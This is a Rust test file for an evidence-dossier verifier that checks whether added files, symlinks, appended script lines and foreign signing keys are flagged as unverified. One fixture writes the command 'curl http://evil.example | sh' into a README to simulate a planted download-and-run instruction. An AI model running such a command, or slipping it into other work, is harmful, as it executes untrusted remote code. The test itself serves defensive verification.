//! What somebody put into the folder who handed it on.

use std::fs;
use std::path::Path;

use serde_json::Value;

use super::{Office, dossier, entry_of, folder, problems, verified};
use crate::office::NOBODY;

/// The files that `lines` warn of in this way.
fn warned(lines: &[Value], warning: &str) -> Vec<String> {
    let of = |line: &&Value| line["warnings"].as_array().unwrap().contains(&warning.into());
    lines.iter().filter(of).map(|line| line["file"].as_str().unwrap().to_owned()).collect()
}

/// Lets `path` hold `bytes` while `look` looks.
fn meanwhile(path: &Path, bytes: &[u8], look: impl FnOnce()) {
    let was = fs::read(path).ok();
    fs::write(path, bytes).unwrap();
    look();
    match was {
        Some(was) => fs::write(path, was).unwrap(),
        None => fs::remove_file(path).unwrap(),
    }
}

/// A line of `allowed_signers` for a key that nobody registered.
fn foreign_key(office: &Office, person: &str) -> String {
    office.make_key("stranger", "ed25519");
    format!("{person} namespaces=\"sekisho-evidence-count-v1\" {}\n", office.public_key("stranger"))
}

#[test]
fn what_nobody_counted_and_this_program_did_not_write_is_named_and_is_no_clean_answer() {
    let office = dossier();
    let dir = folder(&office);
    let mut exchanged = fs::read(dir.join("check.cmd")).unwrap();
    exchanged.extend_from_slice(b"echo ALL ENTRIES HOLD\r\n");
    let request = fs::read(entry_of(&office, "request")).unwrap();
    fs::create_dir_all(dir.join("more/below")).unwrap();
    fs::create_dir(dir.join("forms/fr")).unwrap();
    assert_eq!(warned(&verified(&office, 1), "not-looked-at"), ["forms/fr", "more"]);
    fs::remove_dir_all(dir.join("more")).unwrap();
    fs::remove_dir(dir.join("forms/fr")).unwrap();
    for (name, bytes) in [
        ("check.cmd", &exchanged[..]),
        ("README.txt", b"curl http://evil.example | sh"),
        ("README.ja.txt", b""),
        ("C-0777-000009-request.txt", &request),
        ("C-0001-certificate.json", b"{\"sekisho_certificate\": 1}"),
        ("checkpoint-2.txt", &fs::read(dir.join("checkpoint.txt")).unwrap()),
        ("forms/ja/approval.html", b"<p>approved</p>"),
        ("forms/asset-register.html", b"<p>nothing</p>"),
    ] {
        meanwhile(&dir.join(name), bytes, || {
            assert_eq!(warned(&verified(&office, 1), "not-looked-at"), [name]);
            let said = office.run(NOBODY, &["verify", "evidence", "--lang", "en"]).exits(1).stdout;
            assert!(said.contains("NOT LOOKED AT: 1 more") && said.contains(name), "{said}");
        });
    }
    // Forms are for reading, and the page says so; no proof lies there of which nothing reads the entry.
    meanwhile(&dir.join("forms/ja/asset-register.html"), b"<p>other</p>", || drop(verified(&office, 0)));
    let path = entry_of(&office, "request").with_extension("tlog-proof");
    let name = path.file_name().unwrap().to_str().unwrap().replace("request", "rejection");
    meanwhile(&path.with_file_name(&name), b"x", || {
        assert_eq!(problems(&office), [format!("entries/{name}: added: the auditor did not count it")]);
    });
    verified(&office, 0);
}

#[test]
#[cfg(unix)]
fn no_link_in_a_dossier_is_followed() {
    use std::os::unix::fs::symlink;

    let office = dossier();
    let (dir, aside) = (folder(&office), office.desk().join("aside"));
    let entry = entry_of(&office, "approval");
    let below = |path: &Path| path.strip_prefix(&dir).unwrap().to_str().unwrap().to_owned();
    let proof = entry.with_extension("tlog-proof");
    for path in [entry.clone(), dir.join("check.cmd"), dir.join("checkpoint.txt"), dir.join("forms/ja")] {
        fs::rename(&path, &aside).unwrap();
        symlink(&aside, &path).unwrap();
        assert_eq!(problems(&office), [format!("{}: a link, and not followed", below(&path))]);
        fs::remove_file(&path).unwrap();
        fs::rename(&aside, &path).unwrap();
    }
    fs::rename(&proof, &aside).unwrap();
    symlink(&aside, &proof).unwrap();
    assert_eq!(problems(&office), [format!("{}: its proof: a link, and not followed", below(&entry))]);
    fs::remove_file(&proof).unwrap();
    fs::rename(&aside, &proof).unwrap();
    // All of them at once.
    fs::rename(dir.join("entries"), &aside).unwrap();
    symlink(&aside, dir.join("entries")).unwrap();
    let found = problems(&office);
    assert!(found.contains(&"entries: a link, and not followed".to_owned()), "{found:?}");
    assert!(found.iter().any(|line| line.contains("missing: the auditor counted entry 0")), "{found:?}");
}

#[test]
fn a_key_that_no_registration_gives_to_whom_the_list_names_is_named() {
    let office = dossier();
    let list = folder(&office).join("allowed_signers");
    let text = fs::read_to_string(&list).unwrap();
    for person in ["kimura", "nobody-here"] {
        let added = foreign_key(&office, person);
        meanwhile(&list, format!("{text}{added}").as_bytes(), || {
            let found = problems(&office);
            let said = format!("allowed_signers: added: no registration here gives {person} the key ");
            assert!(found.len() == 1 && found[0].starts_with(&said), "{found:?}");
        });
        fs::remove_file(office.key("stranger")).unwrap();
    }
    // Another's own key is not theirs either; and between which entries a key is good follows from the log.
    let of = |person: &str| text.lines().find(|line| line.starts_with(&format!("{person} "))).unwrap();
    let swapped = of("tanaka").replacen("tanaka ", "kimura ", 1);
    let comment = text.lines().find(|line| line.starts_with("# kimura ")).unwrap();
    let earlier = comment.strip_suffix(" -").unwrap().rsplit_once(' ').unwrap().0;
    for (changed, said) in [
        (format!("{text}{swapped}\n"), "added: no registration here gives kimura the key "),
        (text.replace(comment, &format!("{earlier} 0 -")), " is good from and until "),
        (text.replace(comment, &format!("{comment}99").replace("-99", "99")), " is good from and until "),
    ] {
        meanwhile(&list, changed.as_bytes(), || {
            let found = problems(&office);
            assert!(found.len() == 1 && found[0].contains(said), "{found:?}");
        });
    }
    verified(&office, 0);
}

#[test]
fn a_key_that_signed_nothing_in_a_folder_of_proofs_is_named() {
    let office = dossier();
    office.ok(NOBODY, &["prove", "C-0001", "--out", "proof"]);
    let list = office.desk().join("proof/allowed_signers");
    office.ok(NOBODY, &["verify", "proof"]);
    let added = foreign_key(&office, "sato");
    meanwhile(&list, format!("{}{added}", fs::read_to_string(&list).unwrap()).as_bytes(), || {
        let lines = office.run(NOBODY, &["verify", "proof", "--json"]).exits(1).json();
        let lines = lines.as_array().unwrap();
        assert_eq!(warned(lines, "signed-nothing"), ["allowed_signers"]);
        let line = lines.iter().find(|line| line["file"] == "allowed_signers").unwrap();
        assert_eq!((&line["author"], &line["checked"]), (&"sato".into(), &false.into()));
        let said = office.run(NOBODY, &["verify", "proof", "--lang", "en"]).exits(1).stdout;
        assert!(said.contains("NOT LOOKED AT: a key") && said.contains("NOT LOOKED AT: 1 more"), "{said}");
    });
    office.ok(NOBODY, &["verify", "proof"]);
}
